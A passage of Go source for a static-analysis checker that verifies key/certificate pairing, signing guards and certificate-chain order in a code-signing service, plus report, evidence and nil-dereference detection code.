				if g.Match(Fact{lf.V, IsTrue}) {
					return true
				}
				if lf.To == nil {
					// plain return value: guarded if the return block is
					del := passEdges(fn, g)
					return len(del) > 0 && !reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)[r.Block().Index]
				}
				return !leafUnguarded(fn, lf, g)
			}
			rsaOK := protects(cmpGuard("N")) && protects(cmpGuard("E"))
			ecOK := protects(cmpGuard("X")) && protects(cmpGuard("Y"))
			eqOK := protects(eqCall)
			c.Check(rsaOK || ecOK || eqOK, ra, fmt.Sprintf("lib/x509tools.SameKey true-result#%d", n), p.Pos(r.Pos()), "true only when both keys' material compared equal (RSA N,E / ECDSA X,Y)", "SameKey can return true without comparing the full key material of both keys")
		}
	}
	c.Check(n >= 2, ra, "lib/x509tools.SameKey handles RSA and ECDSA", p.Pos(fn.Pos()), "", "SameKey no longer has separate RSA and ECDSA comparisons")
}

func c07Provenance(c *Ctx, rb string) {
	p := c.P
	ik := p.Func("internal/signinit.InitKey")
	in := p.Func("internal/signinit.Init")
	if ik == nil || in == nil {
		c.Undecided(rb, "signinit.Init/InitKey", "-", "function not found")
		return
	}
	c.Analysed(p.FName(ik))
	c.Analysed(p.FName(in))
	// InitKey: key := tok.GetKey(ctx, keyName); cert := LoadTokenCertificates(key, ...); return cert
	gks := p.callsIn(ik, "(token.Token).GetKey")
	lts := p.callsIn(ik, "lib/certloader.LoadTokenCertificates")
	if len(gks) != 1 || len(lts) != 1 {
		c.Fail(rb, "internal/signinit.InitKey shape", p.Pos(ik.Pos()), fmt.Sprintf("%d GetKey and %d LoadTokenCertificates calls, expected 1 each", len(gks), len(lts)))
		return
	}
	gk, lt := gks[0].(*ssa.Call), lts[0].(*ssa.Call)
	nameOK := len(ik.Params) >= 3 && gk.Call.Args[1] == ik.Params[2]
	c.Check(nameOK, rb, "internal/signinit.InitKey asks the token for the requested name", p.Pos(gk.Pos()), "tok.GetKey(ctx, keyName)", "the key fetched from the token is not the one named by the caller")
	a, idx := resultOf(lt.Call.Args[0])
	c.Check(a == gk && idx == 0, rb, "internal/signinit.InitKey pairs the fetched key", p.Pos(lt.Pos()), "LoadTokenCertificates(key from GetKey, …)", "LoadTokenCertificates is not given the key that GetKey returned")
	// the certificate config passed is that key's config
	cfgOK := dependsOn(lt.Call.Args[1], func(x ssa.Value) bool {
		call, ok := x.(*ssa.Call)
		if !ok || p.calleeName(call.Common()) != "(token.Key).Config" {
			return false
		}
		r, i := resultOf(call.Common().Value)
		return r == gk && i == 0
	})
	c.Check(cfgOK, rb, "internal/signinit.InitKey uses that key's certificate config", p.Pos(lt.Pos()), "certificate paths come from key.Config()", "the certificate files are not those configured for the fetched key")
	for i, r := range p.successReturns(ik) {
		src, ix := resultOf(retVal(r, 0))
		c.Check(src == lt && ix == 0, rb, fmt.Sprintf("internal/signinit.InitKey returns the paired certificate#%d", i+1), p.Pos(r.Pos()), "", "InitKey returns a certificate other than the one LoadTokenCertificates paired")
	}
	// Init returns InitKey's certificate
	iks := p.callsIn(in, "internal/signinit.InitKey")
	if len(iks) == 1 {
		ikc := iks[0].(*ssa.Call)
		for i, r := range p.successReturns(in) {
			src, ix := resultOf(retVal(r, 0))
			c.Check(src == ikc && ix == 0, rb, fmt.Sprintf("internal/signinit.Init returns InitKey's certificate#%d", i+1), p.Pos(r.Pos()), "", "Init returns a certificate other than the one InitKey loaded")
		}
		if len(ikc.Call.Args) >= 3 {
			c.Check(inputOfType(in, ikc.Call.Args[2], "string") && inputOfType(in, ikc.Call.Args[1], "token.Token"), rb, "internal/signinit.Init passes token and key name through", p.Pos(ikc.Pos()), "", "Init calls InitKey with a different token or key name than it was given")
		}
	} else {
		c.Fail(rb, "internal/signinit.Init shape", p.Pos(in.Pos()), fmt.Sprintf("%d InitKey calls, expected 1", len(iks)))
	}
	// both sign entry points hand Init's certificate to Signer.Sign
	for _, spec := range []string{"server.(*Server).serveSign", "cmdline/token.signCmd"} {
		fn := p.Func(spec)
		if fn == nil {
			c.Undecided(rb, spec, "-", "function not found")
			continue
		}
		inits := p.callsIn(fn, "internal/signinit.Init")
		signs := p.signerFieldCalls(fn, "Sign")
		if len(inits) != 1 || len(signs) != 1 {
			c.Undecided(rb, p.FName(fn)+" shape", p.Pos(fn.Pos()), fmt.Sprintf("%d Init / %d Sign calls", len(inits), len(signs)))
			continue
		}
		src, ix := resultOf(signs[0].Common().Args[1])
		c.Check(src == inits[0] && ix == 0, rb, p.FName(fn)+" signs with Init's certificate", p.Pos(signs[0].Pos()), "", "Signer.Sign is given a certificate other than the one Init paired with the key")
	}
}

func c07Builders(c *Ctx, rc string) {
	p := c.P
	// PKCS#7 builder
	sb := p.Func("lib/pkcs7.(*SignatureBuilder).Sign")
	if sb == nil {
		c.Undecided(rc, "(*SignatureBuilder).Sign", "-", "function not found")
	} else {
		c.Analysed(p.FName(sb))
		signs := p.callsIn(sb, "(crypto.Signer).Sign")
		if len(signs) != 1 {
			c.Fail(rc, "(*lib/pkcs7.SignatureBuilder).Sign sign call", p.Pos(sb.Pos()), fmt.Sprintf("%d calls to crypto.Signer.Sign, expected 1", len(signs)))
		} else {
			sign := signs[0]
			recvKey := p.memKey(sign.Common().Value)
			g := isSameKeyGuard(p, func(ci ssa.CallInstruction) bool {
				a := ci.Common().Args
				pubOfSigner := func(v ssa.Value) bool {
					return dependsOn(v, func(x ssa.Value) bool {
						call, ok := x.(*ssa.Call)
						return ok && p.calleeName(call.Common()) == "(crypto.Signer).Public" && p.memKey(call.Common().Value) == recvKey && recvKey != ""
					})
				}
				firstCertPub := func(v ssa.Value) bool { return p.isFirstCertPublicKey(v, "f:lib/pkcs7.SignatureBuilder.certs") }
				return len(a) == 2 && ((pubOfSigner(a[0]) && firstCertPub(a[1])) || (pubOfSigner(a[1]) && firstCertPub(a[0])))
			})
			lenG := lenAtLeastOne(p, func(v ssa.Value) bool { return p.memKey(v) == "f:lib/pkcs7.SignatureBuilder.certs" })
			missing, path := p.unguardedFromEntry(sb, sign, g, lenG)
			c.Check(len(missing) == 0, rc, "(*lib/pkcs7.SignatureBuilder).Sign guarded", p.Pos(sign.Pos()), "signs only if len(certs)>=1 and SameKey(signer.Public(), certs[0].PublicKey)", fmt.Sprintf("the builder signs without %v", missing), path...)
			// emitted certificates are sb.certs
			mcs := p.callsIn(sb, "lib/pkcs7.marshalCertificates")
			okEmit := len(mcs) == 1 && p.memKey(mcs[0].Common().Args[0]) == "f:lib/pkcs7.SignatureBuilder.certs"
			c.Check(okEmit, rc, "(*lib/pkcs7.SignatureBuilder).Sign emits the checked certificates", p.Pos(sb.Pos()), "Certificates: marshalCertificates(sb.certs)", "the embedded certificates are not the ones that were checked against the key")
		}
	}
	// XML-DSig
	fs := p.Func("lib/xmldsig.finishSignature")
	if fs == nil {
		c.Undecided(rc, "xmldsig.finishSignature", "-", "function not found")
		return
	}
	c.Analysed(p.FName(fs))
	callers := 0
	for _, fn := range p.Funcs {
		for _, ci := range p.callsIn(fn, "lib/xmldsig.finishSignature") {
			callers++
			fname := p.FName(fn)
			c.Analysed(fname)
			args := ci.Common().Args // signature, signedinfo, hash, privKey, certs, opts
			priv, certs := args[3], args[4]
			g := isSameKeyGuard(p, func(sk ssa.CallInstruction) bool {
				a := sk.Common().Args
				pubOfSigner := func(v ssa.Value) bool {
					return dependsOn(v, func(x ssa.Value) bool {
						call, ok := x.(*ssa.Call)
						return ok && p.calleeName(call.Common()) == "(crypto.Signer).Public" && call.Common().Value == priv
					})
				}
				firstCertPub := func(v ssa.Value) bool {
					return dependsOn(v, func(x ssa.Value) bool {
						ia, ok := x.(*ssa.IndexAddr)
						return ok && ia.X == certs && isIntConst(ia.Index, 0)
					}) && dependsOn(v, func(x ssa.Value) bool { _, f, _ := p.fieldAddr(x); return f == "PublicKey" })
				}
				return len(a) == 2 && ((pubOfSigner(a[0]) && firstCertPub(a[1])) || (pubOfSigner(a[1]) && firstCertPub(a[0])))
			})
			lenG := lenAtLeastOne(p, func(v ssa.Value) bool { return v == certs })
			missing, path := p.unguardedFromEntry(fn, ci, g, lenG)
			c.Check(len(missing) == 0, rc, fname+" reaches finishSignature guarded", p.Pos(ci.Pos()), "signs only if len(certs)>=1 and SameKey(privKey.Public(), certs[0].PublicKey)", fmt.Sprintf("the XML signer signs without %v", missing), path...)
			okCaller := fname == "lib/xmldsig.Sign" || fname == "lib/xmldsig.SignEnveloping"
			c.Check(okCaller, rc, fname+" is a known caller of finishSignature", p.Pos(ci.Pos()), "", "new caller of finishSignature: it must carry its own key/certificate check")
		}
	}
	c.Check(callers == 2, rc, "lib/xmldsig.finishSignature caller count", p.Pos(fs.Pos()), "", fmt.Sprintf("%d callers, expected 2", callers))
	// finishSignature signs with the privKey parameter and embeds the certs parameter
	signs := p.callsIn(fs, "(crypto.Signer).Sign")
	okS := len(signs) == 1 && len(fs.Params) >= 5 && signs[0].Common().Value == fs.Params[3]
	if _, host, via := xmlFinishHost(p); via != nil && host != fs && len(fs.Params) >= 5 {
		// the signing step was given a name: it signs with the parameter that finishSignature hands its key to
		hs := p.callsIn(host, "(crypto.Signer).Sign")
		okS = false
		if len(hs) == 1 {
			for k, a := range via.Common().Args {
				if a == ssa.Value(fs.Params[3]) && k < len(host.Params) && hs[0].Common().Value == ssa.Value(host.Params[k]) {
					okS = true
				}
			}
		}
	}
	c.Check(okS, rc, "lib/xmldsig.finishSignature signs with the checked key", p.Pos(fs.Pos()), "", "finishSignature does not sign with the key its callers checked")
}

// isFirstCertPublicKey: v is (derived from) X[0].PublicKey where X is a load of the
// memory location with the given key.
func (p *Prog) isFirstCertPublicKey(v ssa.Value, sliceKey string) bool {
	hasPub := dependsOn(v, func(x ssa.Value) bool { _, f, _ := p.fieldAddr(x); return f == "PublicKey" })
	hasIdx0 := dependsOn(v, func(x ssa.Value) bool {
		ia, ok := x.(*ssa.IndexAddr)
		return ok && p.memKey(ia.X) == sliceKey && isIntConst(ia.Index, 0)
	})
	return hasPub && hasIdx0
}

// lenAtLeastOne: a guard edge implying len(X) >= 1 for an X accepted by isX.
func lenAtLeastOne(p *Prog, isX func(ssa.Value) bool) Guard {
	return Guard{Name: "len(certs)>=1", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		call, ok := bo.X.(*ssa.Call)
		if !ok {
			return false
		}
		bi, ok := call.Call.Value.(*ssa.Builtin)
		if !ok || bi.Name() != "len" || !isX(call.Call.Args[0]) {
			return false
		}
		k, ok := constInt(bo.Y)
		if !ok {
			return false
		}
		truth := f.Kind == IsTrue
		switch bo.Op {
		case token.LSS: // len < k false  => len >= k
			return !truth && k >= 1
		case token.LEQ:
			return !truth && k >= 0
		case token.GTR:
			return truth && k >= 0
		case token.GEQ:
			return truth && k >= 1
		case token.EQL:
			return !truth && k == 0
		case token.NEQ:
			return truth && k == 0
		}
		return false
	}}
}

func c07LeafFirst(c *Ctx, re string) {
	p := c.P
	n := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				a, ok := in.(*ssa.Alloc)
				if !ok {
					continue
				}
				pt, ok := a.Type().(*types.Pointer)
				if !ok || typeName(p, pt.Elem()) != certT {
					continue
				}
				var leaf, certs ssa.Value
				for _, r := range *a.Referrers() {
					fa, ok := r.(*ssa.FieldAddr)
					if !ok {
						continue
					}
					_, f, _ := p.fieldAddr(fa)
					for _, r2 := range *fa.Referrers() {
						if st, ok := r2.(*ssa.Store); ok {
							switch f {
							case "Leaf":
								leaf = st.Val
							case "Certificates":
								certs = st.Val
							}
						}
					}
				}
				if certs == nil {
					continue
				}
				n++
				key := fmt.Sprintf("%s Certificate literal#%d", p.FName(fn), n)
				c.Analysed(p.FName(fn))
				ok = leaf != nil && firstElemIs(certs, leaf)
				c.Check(ok, re, key, p.Pos(a.Pos()), "Leaf is element 0 of Certificates", "a Certificate is built whose Leaf is not the first element of Certificates (chain emitted out of order / wrong leaf)")
			}
		}
	}
	ch := p.Func("lib/certloader.(*Certificate).Chain")
	if ch == nil {
		c.Undecided(re, "(*Certificate).Chain", "-", "function not found")
		return
	}
	c.Analysed(p.FName(ch))
	var leafApp ssa.Instruction
	var others []ssa.Instruction
	for _, b := range ch.Blocks {
		for _, in := range b.Instrs {
			call, ok := in.(*ssa.Call)
			if !ok {
				continue
			}
			bi, ok := call.Call.Value.(*ssa.Builtin)
			if !ok || bi.Name() != "append" {
				continue
			}
			isLeaf := dependsOn(call.Call.Args[1], func(x ssa.Value) bool {
				t, f, _ := p.fieldLoad(x)
				return t == certT && f == "Leaf"
			})
			if isLeaf && leafApp == nil {
				leafApp = call
			} else {
				others = append(others, call)
			}
		}
	}
	ok := leafApp != nil && !reach(ch, leafApp.Block().Succs, nil, nil)[leafApp.Block().Index]
	for _, o := range others {
		if leafApp != nil && reachableAfter(ch, o, leafApp, nil, nil) {
			ok = false
		}
	}
	c.Check(ok, re, "(*lib/certloader.Certificate).Chain leaf first", p.Pos(ch.Pos()), "Leaf appended once, before any other certificate", "Chain() does not emit the leaf certificate first")
}

// firstElemIs: is `leaf` element 0 of the slice value `certs`?
func firstElemIs(certs, leaf ssa.Value) bool {
	// leaf = certs[0]
	if l, ok := leaf.(*ssa.UnOp); ok && l.Op == token.MUL {
		if ia, ok := l.X.(*ssa.IndexAddr); ok && ia.X == certs && isIntConst(ia.Index, 0) {
			return true
		}
	}
	// certs = append([]T{leaf}, …) or []T{leaf, …}
	return dependsOn(certs, func(x ssa.Value) bool {
		a, ok := x.(*ssa.Alloc)
		if !ok {
			return false
		}
		for _, r := range *a.Referrers() {
			if ia, ok := r.(*ssa.IndexAddr); ok && isIntConst(ia.Index, 0) {
				for _, r2 := range *ia.Referrers() {
					if st, ok := r2.(*ssa.Store); ok && st.Val == leaf {
						return true
					}
				}
			}
		}
		return false
	})
}
