package main

// Obligations, reports, known findings, evidence.

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"
)

// Ob is one decided obligation: a rule instance at a construct.
type Ob struct {
	Rule   string   `json:"rule"`
	Key    string   `json:"key"` // rule-relative instance key: function + construct, never a line
	Pos    string   `json:"pos"`
	OK     bool     `json:"ok"`
	Detail string   `json:"detail,omitempty"`
	Path   []string `json:"path,omitempty"` // witness path for a failed obligation
	// Nontrivial: the verdict needed a path / slice / table computation
	Nontrivial bool   `json:"nontrivial,omitempty"`
	Undecided  bool   `json:"undecided,omitempty"`
	Config     string `json:"config,omitempty"`
}

type RuleInfo struct {
	ID        string `json:"id"`
	Statement string `json:"statement"`
	Min       int    `json:"min_instances"`
	Count     int    `json:"instances"`
	Failed    int    `json:"failed"`
	Known     int    `json:"known_findings"`
}

type Ctx struct {
	Prop      string
	Tier      string
	P         *Prog
	Config    string
	rules     map[string]*RuleInfo
	order     []string
	obs       []Ob
	notes     []string
	controls  []string
	ctlFailed int
	funcs     map[string]bool
	start     time.Time
	configs   []string
}

func NewCtx(prop, tier string) *Ctx {
	return &Ctx{Prop: prop, Tier: tier, rules: map[string]*RuleInfo{}, funcs: map[string]bool{}, start: time.Now()}
}

func (c *Ctx) Rule(id, statement string, min int) {
	if r, ok := c.rules[id]; ok {
		r.Statement = statement
		if min > r.Min {
			r.Min = min
		}
		return
	}
	c.rules[id] = &RuleInfo{ID: id, Statement: statement, Min: min}
	c.order = append(c.order, id)
}

func cleanKey(k string) string {
	k = strings.Join(strings.Fields(k), "_")
	return k
}

func (c *Ctx) add(o Ob) {
	if _, ok := c.rules[o.Rule]; !ok {
		c.Rule(o.Rule, "", 0)
	}
	o.Key = cleanKey(o.Key)
	o.Config = c.Config
	// the same obligation decided again in another configuration: keep the worst verdict
	for i := range c.obs {
		if c.obs[i].Rule == o.Rule && c.obs[i].Key == o.Key {
			if c.obs[i].OK && !o.OK {
				c.obs[i] = o
			}
			return
		}
	}
	c.obs = append(c.obs, o)
}

func (c *Ctx) Pass(rule, key, pos, detail string) {
	c.add(Ob{Rule: rule, Key: key, Pos: pos, OK: true, Detail: detail, Nontrivial: true})
}

// PassTrivial records an instance whose verdict needed no computation (kept apart so
// that distinct_nontrivial stays honest).
func (c *Ctx) PassTrivial(rule, key, pos, detail string) {
	c.add(Ob{Rule: rule, Key: key, Pos: pos, OK: true, Detail: detail})
}

func (c *Ctx) Fail(rule, key, pos, detail string, path ...string) {
	c.add(Ob{Rule: rule, Key: key, Pos: pos, OK: false, Detail: detail, Path: path, Nontrivial: true})
}

// Undecided: an anchor did not resolve or an idiom was not recognised. Fails the run
// (fail-closed) but is labelled as such.
func (c *Ctx) Undecided(rule, key, pos, why string) {
	c.add(Ob{Rule: rule, Key: key, Pos: pos, OK: false, Detail: "UNDECIDED: " + why, Undecided: true, Nontrivial: true})
}

func (c *Ctx) Check(ok bool, rule, key, pos, okDetail, failDetail string, path ...string) {
	if ok {
		c.Pass(rule, key, pos, okDetail)
	} else {
		c.Fail(rule, key, pos, failDetail, path...)
	}
}

func (c *Ctx) Note(format string, a ...any) {
	c.notes = append(c.notes, fmt.Sprintf(format, a...))
}

func (c *Ctx) Control(name string, fired bool) {
	s := "fired"
	if !fired {
		s = "DID NOT FIRE"
		c.ctlFailed++
	}
	c.controls = append(c.controls, name+": "+s)
}

func (c *Ctx) Analysed(fn string) { c.funcs[fn] = true }

// ---------------------------------------------------------------------------------

type knownEntry struct {
	Kind string // finding | fixed
	Prop string
	Rule string
	Key  string
	Text string
}

func loadKnown(path string) ([]knownEntry, error) {
	f, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, nil
		}
		return nil, err
	}
	defer f.Close()
	var out []knownEntry
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		var e knownEntry
		switch {
		case strings.HasPrefix(line, "finding:"):
			e.Kind = "finding"
			line = strings.TrimSpace(line[len("finding:"):])
		case strings.HasPrefix(line, "fixed:"):
			e.Kind = "fixed"
			line = strings.TrimSpace(line[len("fixed:"):])
		default:
			return nil, fmt.Errorf("KNOWN_FINDINGS: unrecognised line %q", line)
		}
		fields := strings.Fields(line)
		rest := []string{}
		for _, fl := range fields {
			switch {
			case strings.HasPrefix(fl, "property=") && e.Prop == "":
				e.Prop = fl[len("property="):]
			case strings.HasPrefix(fl, "rule=") && e.Rule == "":
				e.Rule = fl[len("rule="):]
			case strings.HasPrefix(fl, "key=") && e.Key == "":
				e.Key = fl[len("key="):]
			default:
				rest = append(rest, fl)
			}
		}
		e.Text = strings.Join(rest, " ")
		out = append(out, e)
	}
	return out, sc.Err()
}

// ---------------------------------------------------------------------------------

type evidence struct {
	PropertyID  string         `json:"property_id"`
	Tier        string         `json:"tier"`
	Seed        int            `json:"seed"`
	Level       string         `json:"level"`
	Coverage    map[string]any `json:"coverage"`
	Assumptions []string       `json:"assumptions"`
	WallS       float64        `json:"wall_s"`
	Violations  int            `json:"violations"`
}

type propMeta struct {
	Explanation string
	NotDecided  string
	Assumptions []string
}

// Finish prints the verdict lines, writes reports and evidence, and returns the exit code.
func (c *Ctx) Finish(verifDir string, evidencePath string, meta propMeta, seed int, fatal error) int {
	known, kerr := loadKnown(filepath.Join(verifDir, "KNOWN_FINDINGS.txt"))
	if kerr != nil && fatal == nil {
		fatal = kerr
	}
	outDir := filepath.Join(verifDir, "out", c.Prop)
	os.RemoveAll(outDir)
	os.MkdirAll(outDir, 0o755)

	// vacuity: a rule that instantiated fewer sites than confirmed by hand
	for _, id := range c.order {
		r := c.rules[id]
		n := 0
		for _, o := range c.obs {
			if o.Rule == id {
				n++
			}
		}
		if n < r.Min {
			c.Undecided(id, "instance-count", "-", fmt.Sprintf("rule %s instantiated %d sites, hand-confirmed minimum is %d (anchor moved or rule went vacuous)", id, n, r.Min))
		}
	}
	sort.SliceStable(c.obs, func(i, j int) bool {
		if c.obs[i].Rule != c.obs[j].Rule {
			return c.obs[i].Rule < c.obs[j].Rule
		}
		return c.obs[i].Key < c.obs[j].Key
	})

	violations := 0
	knownHit := 0
	nFail := map[string]int{}
	discharged := 0
	nontrivial := map[string]bool{}
	var samples []any
	var failedSamples []any
	for _, o := range c.obs {
		r := c.rules[o.Rule]
		r.Count++
		if o.Nontrivial {
			nontrivial[o.Rule+"|"+o.Key] = true
		}
		if o.OK {
			discharged++
			continue
		}
		r.Failed++
		isKnown := false
		var ktext string
		for _, k := range known {
			if k.Kind == "finding" && k.Prop == c.Prop && k.Rule == o.Rule && k.Key == o.Key {
				isKnown = true
				ktext = k.Text
			}
		}
		if isKnown {
			r.Known++
			knownHit++
			fmt.Printf("KNOWN-FINDING: property=%s rule=%s key=%s %s (%s)\n", c.Prop, o.Rule, o.Key, ktext, o.Pos)
			failedSamples = append(failedSamples, map[string]any{"rule": o.Rule, "key": o.Key, "pos": o.Pos, "verdict": "known-finding", "detail": o.Detail})
			continue
		}
		violations++
		nFail[o.Rule]++
		rp := filepath.Join(outDir, fmt.Sprintf("%s-%d.json", o.Rule, nFail[o.Rule]))
		rep := map[string]any{
			"property": c.Prop, "rule": o.Rule, "statement": r.Statement, "key": o.Key, "pos": o.Pos,
			"detail": o.Detail, "path": o.Path, "undecided": o.Undecided, "config": o.Config,
		}
		b, _ := json.MarshalIndent(rep, "", " ")
		os.WriteFile(rp, b, 0o644)
		kind := "violated"
		if o.Undecided {
			kind = "UNDECIDED"
			fmt.Printf("UNDECIDED property=%s rule=%s key=%s at %s: %s\n", c.Prop, o.Rule, o.Key, o.Pos, o.Detail)
		} else {
			fmt.Printf("REPORT property=%s rule=%s key=%s at %s: %s\n", c.Prop, o.Rule, o.Key, o.Pos, o.Detail)
			for _, s := range o.Path {
				fmt.Printf("    %s\n", s)
			}
		}
		fmt.Printf("VIOLATION property=%s replay=%s\n", c.Prop, rp)
		failedSamples = append(failedSamples, map[string]any{"rule": o.Rule, "key": o.Key, "pos": o.Pos, "verdict": kind, "detail": o.Detail})
	}
	if fatal != nil {
		violations++
		rp := filepath.Join(outDir, "fatal-1.json")
		b, _ := json.MarshalIndent(map[string]any{"property": c.Prop, "rule": "loader", "detail": fatal.Error()}, "", " ")
		os.WriteFile(rp, b, 0o644)
		fmt.Printf("FATAL property=%s: %v\n", c.Prop, fatal)
		fmt.Printf("VIOLATION property=%s replay=%s\n", c.Prop, rp)
	}
	if c.ctlFailed > 0 {
		violations++
		rp := filepath.Join(outDir, "control-1.json")
		b, _ := json.MarshalIndent(map[string]any{"property": c.Prop, "rule": "positive-control", "detail": c.controls}, "", " ")
		os.WriteFile(rp, b, 0o644)
		fmt.Printf("CONTROL-FAILURE property=%s: a positive control did not fire: %v\n", c.Prop, c.controls)
		fmt.Printf("VIOLATION property=%s replay=%s\n", c.Prop, rp)
	}

	// samples: up to 6 per rule, failures first
	samples = append(samples, failedSamples...)
	perRule := map[string]int{}
	for _, o := range c.obs {
		if !o.OK {
			continue
		}
		if perRule[o.Rule] >= 6 {
			continue
		}
		perRule[o.Rule]++
		samples = append(samples, map[string]any{"rule": o.Rule, "key": o.Key, "pos": o.Pos, "verdict": "holds", "detail": o.Detail})
	}
	if len(samples) == 0 {
		samples = append(samples, "no obligations were instantiated")
	}
	var rules []any
	for _, id := range c.order {
		rules = append(rules, c.rules[id])
	}
	var allInst []string
	for _, o := range c.obs {
		v := "ok"
		if !o.OK {
			v = "FAIL"
		}
		allInst = append(allInst, fmt.Sprintf("%s %s @%s %s", o.Rule, o.Key, o.Pos, v))
	}
	fnames := make([]string, 0, len(c.funcs))
	for f := range c.funcs {
		fnames = append(fnames, f)
	}
	sort.Strings(fnames)
	cov := map[string]any{
		"explanation": meta.Explanation + " NOT DECIDED: " + meta.NotDecided,
		"obligations": len(c.obs), "discharged": discharged,
		"evaluations": len(c.obs), "distinct_nontrivial": len(nontrivial),
		"rule":    "one obligation per (rule, function, construct) instance discovered in /repo's current source; non-trivial = the verdict needed a path, slice, call-graph or table computation; distinct by rule+key",
		"samples": samples, "rules": rules, "instances": allInst,
		"known_findings_matched": knownHit,
		"functions_analysed":     fnames,
		"functions_analysed_n":   len(fnames),
		"controls":               c.controls,
		"configurations":         c.configs,
		"notes":                  c.notes,
		"checker_cmd":            fmt.Sprintf("/verif/bin/relicvet -property %s -tier %s", c.Prop, c.Tier),
		"trusted_base":           []string{"go/types, go/ssa, go/callgraph of golang.org/x/tools v0.29.0", "rule tables in /verif/checker (guards, sinks, exceptions), each confirmed by reading"},
	}
	if c.P != nil {
		cov["packages"] = len(c.P.Roots)
		cov["module_functions"] = len(c.P.Funcs)
	}
	ev := evidence{PropertyID: c.Prop, Tier: c.Tier, Seed: seed, Level: "other", Coverage: cov,
		Assumptions: meta.Assumptions, WallS: time.Since(c.start).Seconds(), Violations: violations}
	if ev.Assumptions == nil {
		ev.Assumptions = []string{}
	}
	b, _ := json.MarshalIndent(ev, "", " ")
	os.MkdirAll(filepath.Dir(evidencePath), 0o755)
	if err := os.WriteFile(evidencePath, b, 0o644); err != nil {
		fmt.Printf("FATAL cannot write evidence: %v\n", err)
		return 2
	}
	fmt.Printf("SUMMARY property=%s tier=%s obligations=%d discharged=%d known=%d violations=%d wall=%.1fs\n",
		c.Prop, c.Tier, len(c.obs), discharged, knownHit, violations, ev.WallS)
	for _, id := range c.order {
		r := c.rules[id]
		fmt.Printf("  rule %-6s instances=%-3d (min %d) failed=%d known=%d\n", r.ID, r.Count, r.Min, r.Failed, r.Known)
	}
	if violations > 0 {
		return 1
	}
	return 0
}
