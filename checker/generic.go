package main

// Module-wide definite-defect patterns shared by several properties, written so that
// they can also be run on the positive-control module (testdata/ctl).

import (
	"fmt"
	"go/token"
	"go/types"
	"os"
	"path/filepath"

	"golang.org/x/tools/go/ssa"
)

type gFinding struct {
	Key    string
	Pos    string
	Detail string
	Path   []string
	OK     bool // instance examined and found fine (for counting)
}

// nilRegionDerefs: for every pointer-typed value v that is known nil on some If edge —
// either `v == nil` directly, or `v, ok := m[k]` with ok false (a missed lookup yields
// the zero value) — report a dereference of v (field address, load, element address)
// inside the region that is reachable only through that edge. This is a definite nil
// dereference: no feasible execution of that instruction can succeed.
func nilRegionDerefs(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		// candidate values: map lookups with pointer element type
		type cand struct {
			v    ssa.Value
			why  string
			edge Guard
		}
		var cands []cand
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				lk, ok := in.(*ssa.Lookup)
				if !ok {
					continue
				}
				mt, ok := lk.X.Type().Underlying().(*types.Map)
				if !ok {
					continue
				}
				if _, isPtr := mt.Elem().Underlying().(*types.Pointer); !isPtr {
					continue
				}
				if lk.CommaOk {
					var v, okv ssa.Value
					for _, r := range *lk.Referrers() {
						if e, ok := r.(*ssa.Extract); ok {
							if e.Index == 0 {
								v = e
							} else {
								okv = e
							}
						}
					}
					if v == nil || okv == nil {
						continue
					}
					okv2 := okv
					cands = append(cands, cand{v, "map lookup missed (ok == false)", Guard{Match: func(f Fact) bool { return f.Kind == IsFalse && f.V == okv2 }}})
				} else {
					v := ssa.Value(lk)
					cands = append(cands, cand{v, "map lookup result == nil", Guard{Match: func(f Fact) bool { return f.Kind == IsNil && f.V == v }}})
				}
			}
		}
		for _, cd := range cands {
			edges := passEdges(fn, cd.edge)
			if len(edges) == 0 {
				continue
			}
			// region reachable only through the nil edges
			without := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, edges, nil)
			var starts []*ssa.BasicBlock
			for e := range edges {
				starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
			}
			with := reach(fn, starts, nil, nil)
			set, _ := aliasesOf(cd.v)
			// v's phi-merged aliases may be non-nil: only direct value and conversions
			direct := map[ssa.Value]bool{cd.v: true}
			for a := range set {
				switch a.(type) {
				case *ssa.ChangeType, *ssa.MakeInterface:
					direct[a] = true
				}
			}
			found := false
			for _, b := range fn.Blocks {
				if !with[b.Index] || without[b.Index] {
					continue
				}
				for _, in := range b.Instrs {
					var base ssa.Value
					switch x := in.(type) {
					case *ssa.FieldAddr:
						base = x.X
					case *ssa.IndexAddr:
						base = x.X
					case *ssa.UnOp:
						if x.Op == token.MUL {
							base = x.X
						}
					}
					if base != nil && direct[base] {
						found = true
						out = append(out, gFinding{
							Key:    fmt.Sprintf("%s nil-deref-after-missed-lookup %s", p.FName(fn), derefName(p, in)),
							Pos:    p.Pos(in.Pos()),
							Detail: fmt.Sprintf("definite nil dereference: %s, then %s is dereferenced on that branch (a malformed configuration / input crashes instead of yielding an error)", cd.why, derefName(p, in)),
						})
					}
				}
			}
			if !found {
				out = append(out, gFinding{Key: fmt.Sprintf("%s map-lookup@%s", p.FName(fn), p.Pos(cd.v.Pos())), Pos: p.Pos(cd.v.Pos()), OK: true})
			}
		}
	}
	return
}

func derefName(p *Prog, in ssa.Instruction) string {
	if fa, ok := in.(*ssa.FieldAddr); ok {
		t, f, _ := p.fieldAddr(fa)
		return t + "." + f
	}
	return "pointer"
}

// selectSpins: R20a generalised (see c20.go).
func selectSpins(p *Prog) (out []gFinding) {
	sigKeys := p.closeSignalKeys()
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				sel, ok := in.(*ssa.Select)
				if !ok {
					continue
				}
				if !reach(fn, b.Succs, nil, nil)[b.Index] {
					continue
				}
				targets := selectCaseTargets(sel)
				for i, st := range sel.States {
					if st.Dir != types.RecvOnly {
						continue
					}
					k := p.memKey(st.Chan)
					isSig := (k != "" && sigKeys[k]) || (p.isCtxDone(st.Chan) && !definedInCycle(fn, st.Chan.(*ssa.Call).Call.Value, b))
					if !isSig {
						continue
					}
					what := k
					if what == "" {
						what = "ctx.Done()"
					}
